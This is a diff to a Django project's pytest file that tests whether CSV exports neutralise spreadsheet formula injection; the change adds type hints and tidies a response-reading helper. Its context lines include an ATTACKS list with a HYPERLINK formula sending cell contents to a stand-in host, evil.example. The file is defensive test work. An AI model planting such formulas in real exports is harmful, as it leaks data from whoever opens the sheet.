@@ -4,8 +4,10 @@ every cell starting with = + - @ tab or carriage return is kept as text (prefixe
 import csv
 import io
 from collections.abc import Callable
+from typing import TYPE_CHECKING
 
 import pytest
+from django.http import StreamingHttpResponse
 from django.test import Client
 
 from parley import spreadsheets
@@ -13,6 +15,9 @@ from parley.accounts.models import User
 from parley.blog.models import Post
 from parley.moderation import services
 from tests.conftest import comment_as
+
+if TYPE_CHECKING:
+    from django.test.client import _MonkeyPatchedWSGIResponse
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -39,8 +44,10 @@ def test_other_cells_are_written_as_they_are() -> None:
     ]
 
 
-def body(response) -> bytes:  # type: ignore[no-untyped-def]
-    return b"".join(response.streaming_content) if response.streaming else response.content
+def body(response: "_MonkeyPatchedWSGIResponse") -> bytes:
+    if isinstance(response, StreamingHttpResponse):
+        return b"".join(response.streaming_content)
+    return response.content
 
 
 def test_the_moderation_log_csv_keeps_a_formula_in_a_note_as_text(
